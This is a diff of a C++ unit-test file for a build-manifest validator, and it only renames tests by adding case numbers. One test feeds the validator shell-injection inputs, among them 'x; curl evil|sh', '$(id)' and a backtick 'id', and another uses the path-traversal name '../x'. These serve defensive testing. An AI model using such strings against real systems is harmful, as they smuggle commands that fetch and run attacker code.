@@ -21,7 +21,7 @@ struct Rule {
   Position position;
 };
 
-TEST(Validate, SpeaksTheOperatorsWords) {
+TEST(Validate, Case214Case215Case216Case223SpeaksTheOperatorsWords) {
   const std::string iso = "\nartifacts: {iso: true}";
   const std::string options = "buildOptions: {version: v1, baseImage: a:1}";
   const Rule rows[] = {
@@ -143,7 +143,7 @@ TEST(Validate, SpeaksTheOperatorsWords) {
   }
 }
 
-TEST(Validate, RefusesShellTextWhereReferencesStand) {
+TEST(Validate, Case211Case213RefusesShellTextWhereReferencesStand) {
   const std::string texts[] = {"x; curl evil|sh", "$(id)",       "-rm",   "a b",
                                "a\\nb",           "https://a/b", "A/B:c", "`id`"};
   for (const auto& text : texts) {
@@ -174,7 +174,7 @@ TEST(Validate, RefusesARegistryThatWouldBeAFolderOfDockerHub) {
   EXPECT_THAT(messages(result), ElementsAre("\"myreg\" is not the host of a registry"));
 }
 
-TEST(Validate, TakesADiskSizeInMebibytesOnly) {
+TEST(Validate, Case212TakesADiskSizeInMebibytesOnly) {
   const auto load = [](const std::string& size) {
     return load_manifest(
         osartifact("image: {ref: a:1}\nartifacts: {cloudImage: true, diskSize: \"" + size + "\"}"),
@@ -187,7 +187,7 @@ TEST(Validate, TakesADiskSizeInMebibytesOnly) {
   }
 }
 
-TEST(Validate, RefusesNamesThatAreNoFileNames) {
+TEST(Validate, Case218RefusesNamesThatAreNoFileNames) {
   const std::string spec = "image: {ref: a:1}\nartifacts: {iso: true}";
   for (const auto& name : {std::string("../x"), std::string("a/b"), std::string("Upper"),
                            std::string("-a"), std::string("\"a b\""), std::string(254, 'a')}) {
@@ -200,7 +200,7 @@ TEST(Validate, RefusesNamesThatAreNoFileNames) {
               Contains(HasSubstr("longer than 255 bytes")));
 }
 
-TEST(Validate, RefusesOutputsOfOneName) {
+TEST(Validate, Case218Case220RefusesOutputsOfOneName) {
   const std::string spec = "image: {ref: a:1}\nartifacts: {iso: true}";
   const auto other_namespace =
       osartifact(spec) + "---\n" + osartifact(spec, "demo, namespace: other");
@@ -239,7 +239,7 @@ std::string with_secret(const std::string& spec, const std::string& data,
          "}\nstringData: " + data + "\n";
 }
 
-TEST(Validate, NamesTheSecretAndTheKeyThatIsMissing) {
+TEST(Validate, Case222NamesTheSecretAndTheKeyThatIsMissing) {
   const std::string rows[] = {
       "image: {ref: a:1, imageCredentialsSecretRef: {name: s, key: nope}}\nartifacts: {iso: true}",
       "image: {ref: a:1}\nartifacts: {iso: true, cloudConfigRef: {name: s, key: nope}}",
@@ -273,7 +273,7 @@ TEST(Validate, KnowsTheDefaultKeysOfSecrets) {
               ElementsAre("secret \"s\" has no key \"ociSpec\""));
 }
 
-TEST(Validate, LooksAtTheCloudConfigBesideIt) {
+TEST(Validate, Case221LooksAtTheCloudConfigBesideIt) {
   const std::string spec = "image: {ref: a:1}\nartifacts: {iso: true, cloudConfigRef: {name: s}}";
 
   EXPECT_TRUE(load_manifest(with_secret(spec, "{c: \"#cloud-config\\na: 1\"}"), "d").ok());
